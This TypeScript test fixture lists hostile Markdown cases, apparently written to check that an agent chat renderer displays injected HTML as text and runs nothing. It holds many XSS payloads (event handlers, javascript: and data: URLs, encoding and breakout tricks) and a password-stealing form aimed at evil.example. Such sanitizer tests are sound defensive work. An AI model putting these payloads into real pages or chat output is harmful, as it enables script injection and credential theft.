/**
 * Markdown a hostile or prompt-injected model might write, for the tests that
 * check the rendered output (Node: the HTML string; Chromium: the DOM of
 * `<agent-chat-messages>`). Every payload that could run sets
 * `window.__xss`, so a test can also check that nothing ran.
 */
export interface HostileCase {
  name: string;
  markdown: string;
  /** Text that must be visible as such (raw HTML is shown literally). */
  visible?: string[];
}

const ok = 'https://ok.example/';

export const HOSTILE_MARKDOWN: readonly HostileCase[] = [
  // Raw HTML, block and inline.
  { name: 'script block', markdown: "<script>window.__xss = 'script'</script>", visible: ["<script>window.__xss = 'script'</script>"] },
  { name: 'inline script', markdown: "Hi <script>window.__xss = 'inline'</script> there", visible: ['<script>', '</script>'] },
  { name: 'img onerror', markdown: `<img src=x onerror="window.__xss = 'img'">`, visible: ['<img src=x onerror='] },
  { name: 'inline img onerror', markdown: `text <img src="x" onerror="window.__xss = 'img2'"> more`, visible: ['<img src="x" onerror='] },
  { name: 'svg onload', markdown: `<svg onload="window.__xss = 'svg'"><circle r="4"/></svg>`, visible: ['<svg onload='] },
  { name: 'iframe', markdown: `<iframe src="javascript:window.__xss = 'iframe'"></iframe>\n\n<iframe srcdoc="<script>parent.__xss = 1</script>">`, visible: ['<iframe src="javascript:'] },
  { name: 'raw anchor', markdown: `<a href="javascript:window.__xss = 'a'">click</a> and <a href="${ok}" onclick="window.__xss = 'click'">ok</a>`, visible: ['<a href="javascript:'] },
  { name: 'style', markdown: '<style>body { display: none }</style>\n\nand <p style="position: fixed; inset: 0">cover</p>', visible: ['<style>', 'style="position: fixed'] },
  { name: 'form', markdown: `<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:window.__xss = 'form'">Log in</button></form>`, visible: ['<form action='] },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0; url=https://evil.example/">', visible: ['<meta http-equiv="refresh"'] },
  { name: 'base, link, object, embed', markdown: `<base href="https://evil.example/">\n<link rel="stylesheet" href="https://evil.example/x.css">\n<object data="javascript:window.__xss = 'object'"></object>\n<embed src="javascript:window.__xss = 'embed'">`, visible: ['<base href=', '<object data='] },
  { name: 'event handlers', markdown: `<details open ontoggle="window.__xss = 'details'">x</details>\n\n<input autofocus onfocus="window.__xss = 'focus'">\n\n<video><source onerror="window.__xss = 'video'"></video>\n\n<body onload="window.__xss = 'body'">`, visible: ['<details open ontoggle='] },
  { name: 'mutation XSS', markdown: `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 'mxss'">\n\n<noscript><p title="</noscript><img src=x onerror=window.__xss='noscript'>">`, visible: ['<math><mtext>'] },
  { name: 'raw text elements', markdown: `<textarea><img src=x onerror="window.__xss = 'textarea'"></textarea>\n\n<xmp><img src=x onerror="window.__xss = 'xmp'"></xmp> <title><img src=x onerror=1></title>`, visible: ['<textarea>'] },
  { name: 'template and slot', markdown: '<template><img src=x onerror="window.__xss = 1"></template><slot name="x"></slot>', visible: ['<template>'] },
  { name: 'comment, CDATA, declaration, instruction', markdown: `<!-- <img src=x onerror="window.__xss = 'comment'"> -->\n\n<![CDATA[<img src=x onerror=1>]]>\n\n<!DOCTYPE html>\n\n<?php echo 1; ?>`, visible: ['<!--', '<![CDATA['] },
  // marked passes text after a raw <code>/<pre>/<kbd>/<script> tag through as HTML.
  { name: 'text after a raw code tag', markdown: `x <code> <img/src=x onerror="window.__xss = 'rawblock'"> </code> y`, visible: ['<img/src=x onerror='] },
  { name: 'text after a raw kbd tag', markdown: `a <kbd><img/src=x onerror=window.__xss='kbd'></kbd> and <pre><svg/onload=window.__xss='pre'></pre>`, visible: ['<img/src=x'] },
  { name: 'html in emphasis and link text', markdown: `**<img src=x onerror="window.__xss = 'strong'">** and [<img src=x onerror="window.__xss = 'text'">](${ok})` },
  { name: 'html in lists, quotes, headings, tables', markdown: `- <img src=x onerror="window.__xss = 'li'">\n- item\n\n> <iframe src="javascript:window.__xss = 'quote'">\n\n# <script>window.__xss = 'h1'</script>\n\n| a | <img src=x onerror="window.__xss = 'th'"> |\n|:-:|--:|\n| <script>x</script> | <b onmouseover="window.__xss = 'td'">b</b> |` },
  { name: 'entity-encoded tags', markdown: '&lt;script&gt;window.__xss = 1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;', visible: ['<script>', '<img src=x'] },

  // Markdown links.
  { name: 'javascript: link', markdown: "[js](javascript:window.__xss='md')" },
  { name: 'vbscript: link', markdown: '[vb](vbscript:msgbox(1))' },
  { name: 'data:text/html link', markdown: '[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==) [data2](data:text/html,<script>alert(1)</script>)' },
  { name: 'data:image link', markdown: '[png](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'file: and other schemes', markdown: '[file](file:///etc/passwd) [ftp](ftp://x.example/) [intent](intent://x#Intent;end) [blob](blob:https://x/1) [chrome](chrome://settings)' },
  { name: 'mixed case', markdown: '[case](JaVaScRiPt:alert(1)) [case2](JAVASCRIPT:alert(1))' },
  { name: 'leading whitespace', markdown: '[ws]( javascript:alert(1)) [ws2](<  javascript:alert(1)>)' },
  { name: 'whitespace inside the scheme', markdown: '[tab](<java\tscript:alert(1)>) [sp](<java script:alert(1)>)' },
  { name: 'control characters', markdown: '[c0](\u0001javascript:alert(1)) [nul](java\u0000script:alert(1))' },
  { name: 'entity-encoded schemes', markdown: '[t](jav&#x09;ascript:alert(1)) [j](&#106;avascript:alert(1)) [j2](&#x6A;avascript:alert(1)) [c](javascript&colon;alert(1)) [n](java&NewLine;script:alert(1)) [z](jav&#0000009;ascript:alert(1))' },
  { name: 'percent-encoded schemes', markdown: '[p](javascript%3Aalert(1)) [p2](%6Aavascript:alert(1))' },
  { name: 'backslash escapes', markdown: '[b](javascript\\:alert(1)) [b2](java\\script:alert(1))' },
  { name: 'reference links', markdown: '[ref][r] and [ref2] and [vb][v]\n\n[r]: javascript:alert(1)\n[ref2]: JaVaScRiPt:alert(1) "title"\n[v]: <vbscript:msgbox(1)>' },
  { name: 'autolinks', markdown: '<javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html;base64,PHNjcmlwdD4=> <JAVASCRIPT:alert(1)> www.ok.example/a?b=c&d=e <https://ok.example/?x=1&amp;y>' },
  { name: 'link title breaking out', markdown: `[t](${ok} "x\\" onmouseover=\\"window.__xss = 'title'") [t2](${ok} 'y" onclick="window.__xss = 1') [t3](${ok} (z"><img src=x onerror=window.__xss=1>))` },
  { name: 'reference title breaking out', markdown: `[t][rt]\n\n[rt]: ${ok} "\\"><img src=x onerror=window.__xss='reftitle'>"` },
  { name: 'href breaking out', markdown: `[h](${ok}"onmouseover="window.__xss=1) [h2](<${ok}"><img src=x onerror=window.__xss=1>>)` },

  // Markdown images.
  { name: 'javascript: image', markdown: '![js alt](javascript:window.__xss=1) ![vb alt](vbscript:msgbox(1))' },
  { name: 'data:text/html image', markdown: '![html alt](data:text/html;base64,PHNjcmlwdD4=)' },
  { name: 'non-base64 svg image', markdown: `![svg alt](data:image/svg+xml,<svg onload="window.__xss = 1"/>)` },
  { name: 'allowed images', markdown: '![png](data:image/png;base64,iVBORw0KGgo=) ![remote](https://ok.example/a.png) ![relative](/a.png)' },
  { name: 'image alt and title breaking out', markdown: `![a" onerror="window.__xss = 'alt'](${ok}a.png) ![b](${ok}b.png "\\" onerror=\\"window.__xss = 'imgtitle'") ![<img src=x onerror=window.__xss=1>](${ok}c.png)` },
  { name: 'image inside a hostile link', markdown: `[![img](${ok}a.png)](javascript:alert(1)) [![x](javascript:alert(1))](${ok})` },

  // Code.
  { name: 'html in code spans', markdown: "`<script>window.__xss = 'codespan'</script>` and `` <img src=x onerror=window.__xss=1> ``", visible: ["<script>window.__xss = 'codespan'</script>", '<img src=x onerror=window.__xss=1>'] },
  { name: 'html in a fence', markdown: "```html\n<script>window.__xss = 'fence'</script>\n<img src=x onerror=\"window.__xss = 'fence'\">\n```", visible: ["<script>window.__xss = 'fence'</script>"] },
  { name: 'html in an indented block', markdown: "    <img src=x onerror=\"window.__xss = 'indented'\">", visible: ['<img src=x onerror='] },
  { name: 'fence language breaking out', markdown: "```\"><img src=x onerror=window.__xss='lang'>\ncode\n```\n\n~~~js onmouseover=window.__xss=1\nx\n~~~", visible: ['code'] },
  { name: 'unclosed fence with html', markdown: "```js\nconst a = '<img src=x onerror=window.__xss=1>';\n\n\n</code></pre><img src=x onerror=window.__xss='escape'>" },

  // Other renderer paths.
  { name: 'table align and cells', markdown: '| a | b | c |\n|:--|:-:|--:|\n| [x](javascript:alert(1)) | `<b>` | <i>i</i> |', visible: ['<b>', '<i>'] },
  { name: 'list start and task items', markdown: '3. <b>x</b>\n4. y\n\n- [x] done <img src=x onerror=window.__xss=1>\n- [ ] todo' },
  { name: 'setext heading', markdown: "<img src=x onerror=\"window.__xss = 'setext'\">\n===" },
];
